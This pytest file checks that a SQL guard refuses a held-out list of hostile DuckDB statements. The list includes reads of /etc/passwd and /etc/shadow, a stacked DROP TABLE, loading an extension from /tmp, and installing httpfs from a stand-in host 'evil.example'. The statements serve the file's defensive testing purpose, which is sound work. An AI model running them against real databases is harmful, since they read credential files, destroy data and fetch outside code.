"""Hostile statements written apart from the guard's development (the held-out part of
the guard's table): each must be refused before it runs."""

from __future__ import annotations

import pytest

from services.insights.lake.sqlguard import SqlRefusedError, check

HELD_OUT = [
    "SELECT * FROM read_csv_auto('/etc/passwd')",
    "FROM read_parquet('/tmp/x.parquet')",
    "FROM events; DROP TABLE events",
    "SELECT id FROM events UNION ALL SELECT * FROM read_json_auto('x.json')",
    "SELECT * FROM pragma_database_list()",
    "SELECT * FROM sqlite_scan('x.db', 't')",
    "WITH events AS (SELECT * FROM read_csv('/etc/passwd')) SELECT * FROM events",
    'SELECT * FROM "/etc/passwd"',
    "SELECT * FROM parquet_scan('/tmp/x.parquet')",
    "SELECT * FROM events, LATERAL (SELECT * FROM read_text('/etc/hostname'))",
    "SELECT * FROM system.main.events",
    "SELECT * FROM temp.main.x",
    "BEGIN TRANSACTION",
    "COMMIT",
    "CREATE MACRO m() AS 1",
    "SELECT 1 UNION SELECT count(*) FROM duckdb_tables()",
    "INSERT INTO events VALUES (1) RETURNING *",
    "CREATE OR REPLACE VIEW events AS SELECT 1",
    "SELECT * FROM events WHERE 1 = 1 /* unterminated",
    "SELECT * FROM iceberg_scan('s3://lake/x')",
    "SELECT * FROM read_blob('/etc/shadow')",
    "SELECT * FROM 'data/*.parquet'",
    "SELECT * FROM range(1000000000000)",
    "SET VARIABLE x = 1",
    "SELECT getvariable('x')",
    "LOAD '/tmp/evil.duckdb_extension'",
    "FORCE INSTALL httpfs FROM 'http://evil.example'",
    "SELECT * FROM postgres_scan('host=x', 'public', 't')",
    "SELECT * FROM events; ATTACH 'x.db'",
    "select * from Read_CSV('/etc/passwd')",
    "SELECT (SELECT count(*) FROM glob('/root/*'))",
    "SELECT * FROM events WHERE path IN (FROM 'https://example.com/list.csv')",
]


@pytest.mark.parametrize("sql", HELD_OUT)
def test_held_out_hostile_statements_are_refused(sql: str) -> None:
    with pytest.raises(SqlRefusedError):
        check(sql)
